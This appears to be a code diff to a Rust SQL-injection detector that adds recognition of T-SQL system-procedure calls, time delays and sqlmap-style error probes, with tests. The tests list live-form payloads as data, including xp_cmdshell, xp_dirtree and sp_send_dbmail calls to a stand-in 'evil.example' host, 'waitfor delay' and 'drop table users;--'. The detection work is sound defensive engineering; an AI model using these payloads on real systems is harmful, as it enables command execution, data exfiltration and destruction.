@@ -474,12 +474,79 @@ pub fn statement_fragment(norm: &[u8]) -> bool {
     });
     let statement = statement_at(s, 0);
     union
-        || (statement && (s.starts_with(b"exec ") || s.starts_with(b"waitfor")))
+        || tsql_command(s)
         || (statement
             && s.iter().rposition(|&b| b == b';').is_some_and(|i| {
                 let rest = s[i + 1..].trim_ascii_start();
                 rest.starts_with(b"--") || rest.starts_with(b"#") || rest.starts_with(b"/*")
             }))
+}
+
+/// The whole value is one T-SQL command and its arguments, which no question or title is: an
+/// `exec`/`execute` of a system procedure (`xp_…`, `sp_…`, or any in `master`, also bracketed or
+/// with its schema: `exec [master]..xp_cmdshell 'dir'`, `exec sys.xp_dirtree '\\evil\a'`), or a
+/// `waitfor delay`/`time` (also after a number: `1 waitfor delay '0:0:5'`), each followed only by
+/// literals, variables and commas, then maybe `;` and a comment. `Exec (Sales), London` and
+/// "EXEC sp_who2 'active' returns nothing, why?" go on past their arguments.
+fn tsql_command(s: &[u8]) -> bool {
+    let word = |s: &[u8], w: &[u8]| s.starts_with(w) && !s.get(w.len()).is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_');
+    let rest = if let Some(r) = [&b"execute"[..], b"exec"].iter().find(|w| word(s, w)).map(|w| &s[w.len()..]) {
+        let r = r.trim_ascii_start();
+        let name_len = r.iter().take(128).take_while(|&&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'[' | b']' | b'"')).count();
+        let name: Vec<u8> = r[..name_len].iter().copied().filter(|b| !matches!(b, b'[' | b']' | b'"')).collect();
+        let last = name.rsplit(|&b| b == b'.').next().unwrap_or(&[]);
+        if !(last.starts_with(b"xp_") || last.starts_with(b"sp_") || (name.starts_with(b"master.") && !last.is_empty())) {
+            return false;
+        }
+        &r[name_len..]
+    } else {
+        let digits = s.iter().take(20).take_while(|b| b.is_ascii_digit()).count();
+        let w = s[digits..].trim_ascii_start();
+        if !(digits == 0 || w.len() < s.len() - digits) || !word(w, b"waitfor") {
+            return false;
+        }
+        let r = w[7..].trim_ascii_start();
+        let Some(r) = [&b"delay"[..], b"time"].iter().find(|k| word(r, k)).map(|k| r[k.len()..].trim_ascii_start()) else { return false };
+        let n = r.strip_prefix(b"'").map_or(0, |t| t.iter().take(16).take_while(|b| b.is_ascii_digit() || matches!(b, b':' | b'.')).count());
+        if n == 0 || r.get(n + 1) != Some(&b'\'') {
+            return false;
+        }
+        &r[n + 2..]
+    };
+    arguments_then_end(rest)
+}
+
+/// Whether `s` is only literals (`'…'` with `''` inside, `n'…'`, numbers), variables (`@a`,
+/// `@a = 1`) and commas between blanks, then maybe `;` and a comment.
+fn arguments_then_end(mut s: &[u8]) -> bool {
+    for _ in 0..64 {
+        s = s.trim_ascii_start();
+        match s.first() {
+            None => return true,
+            Some(b';') => {
+                let t = s[1..].trim_ascii_start();
+                return t.is_empty() || t.starts_with(b"--") || t.starts_with(b"#") || t.starts_with(b"/*");
+            }
+            Some(b'-') if s.starts_with(b"--") => return true,
+            Some(b',' | b'=') => s = &s[1..],
+            Some(b'\'') | Some(b'n') if s.starts_with(b"'") || s.starts_with(b"n'") => {
+                let mut i = if s[0] == b'n' { 2 } else { 1 };
+                loop {
+                    match s[i..].iter().position(|&b| b == b'\'') {
+                        Some(k) if s.get(i + k + 1) == Some(&b'\'') => i += k + 2,
+                        Some(k) => break s = &s[i + k + 1..],
+                        None => return false,
+                    }
+                }
+            }
+            Some(&b) if b == b'@' || b.is_ascii_digit() || b == b'-' => {
+                let n = 1 + s[1..].iter().take(64).take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.')).count();
+                s = &s[n..];
+            }
+            _ => return false,
+        }
+    }
+    false
 }
 
 /// `union [all|distinct] select <list>` anywhere in the value, where the list reads as SQL's (see
@@ -606,10 +673,11 @@ const IMPLICIT_OPS: &[&[u8]] = &[
     b"not regexp", b"sounds like",
 ];
 
-/// The whole value is a parameter's value with a run of quotes of both kinds and an opened
-/// parenthesis appended (`1¿'"(`, wapiti's; sqlmap's heuristic check appends `'"(),.` in random
-/// order): what a scanner sends to make the query fail and read the error. Text and code close
-/// what they open, and put blanks or quotes before such a run.
+/// The whole value is a parameter's value with a run of both kinds of quote and more opened
+/// parentheses than closed appended (`1¿'"(`, wapiti's), or sqlmap's heuristic check: ten of `'"(),.` in
+/// random order with one quote of each kind (`1),(")',,.(`): what a scanner sends to make the
+/// query fail and read the error. Text and code close what they open, and put blanks or quotes
+/// before such a run.
 pub fn error_probe(norm: &[u8]) -> bool {
     let s = norm.trim_ascii();
     let run = s.iter().rev().take(32).take_while(|&&b| matches!(b, b'\'' | b'"' | b'(' | b')' | b',' | b'.' | b'\\')).count();
@@ -620,7 +688,7 @@ pub fn error_probe(norm: &[u8]) -> bool {
         && !head.iter().any(|&b| matches!(b, b' ' | b'\t' | b'\'' | b'"' | b'(' | b')'))
         && count(b'\'') > 0
         && count(b'"') > 0
-        && count(b'(') > count(b')')
+        && (count(b'(') > count(b')') || (run >= 6 && count(b'\'') == 1 && count(b'"') == 1))
 }
 
 /// The whole value ends the app's string and goes on with a list of literals (`', 2, 1`,
@@ -785,7 +853,7 @@ mod tests {
 
     #[test]
     fn error_probes_append_both_quotes_and_an_opened_parenthesis() {
-        reads(error_probe, &["1\u{bf}'\"(", "'\"(", "42'.((,.,)\"'", "admin\"'("], &["abusive.')\"", "x.replace(\"'\",'\"')", "it's \"(", "say '\"(", "''", "1'\"", "(\"')"]);
+        reads(error_probe, &["1\u{bf}'\"(", "'\"(", "42'.((,.,)\"'", "admin\"'(", "1.,)..(\".)'", "1))))\")',.(", "1),(\")',,.(", "1'\")),.(.,"], &["abusive.')\"", "x.replace(\"'\",'\"')", "it's \"(", "say '\"(", "''", "1'\"", "(\"')"]);
     }
 
     /// Spreadsheets compare numbers in `IF` and `IIF` too: those count only past the gate.
@@ -868,8 +936,32 @@ mod tests {
         assert!(!stacks_statement(b"name to \"jo\"; update the invoice too", 11) && !stacks_statement(b"kind 'lena'; alter 7 jahre", 10));
         assert!(statement_fragment(b"drop table users;--") && statement_fragment(b"union select") && statement_fragment(b" union all select 1"));
         assert!(statement_fragment(b"delete from users; #") && statement_fragment(b"shutdown;--"));
-        assert!(statement_fragment(b"exec master..xp_cmdshell 'dir'") && statement_fragment(b"waitfor delay '0:0:5'"));
-        assert!(!statement_fragment(b"exec summary attached") && !statement_fragment(b"waitfor it") && !statement_fragment(b"exec(open(f).read(), vars)"));
+        reads(
+            tsql_command,
+            &[
+                "exec master..xp_cmdshell 'dir'",
+                "waitfor delay '0:0:5'",
+                "execute master..xp_cmdshell 'dir';--",
+                "exec [master]..xp_cmdshell 'dir'",
+                "exec \"master\"..xp_cmdshell 'dir'",
+                "exec sys.xp_dirtree '\\\\evil.example\\a'",
+                "exec msdb.dbo.sp_send_dbmail @recipients='a@evil.example', @body = n'x'",
+                "1 waitfor delay '0:0:5'",
+                "exec sp_who2",
+            ],
+            &[
+                "exec summary attached",
+                "waitfor it",
+                "exec(open(f).read(), vars)",
+                "exec (sales), london",
+                "exec @ mcdonald's",
+                "exec (1).docx",
+                "exec sp_who2 'active' returns nothing for me, why?",
+                "exec sp_helptext 'dbo.myproc' - how do i see the full text?",
+                "waitfor delay '00:00:10' doesn't seem to wait in my job, any ideas?",
+                "exec sp_executesql @sql\n\nwhy does this fail with error 214? thanks",
+            ],
+        );
         assert!(number_stacks_statement(b"1;select 1") && number_stacks_statement(b"5); drop table t"));
         assert!(!number_stacks_statement(b"5; select the blue one") && !number_stacks_statement(b"size 5; select 1"));
         assert!(!statement_fragment(b"drop me a line; thanks") && !statement_fragment(b"union selection committee") && !statement_fragment(b"delete my account please"));
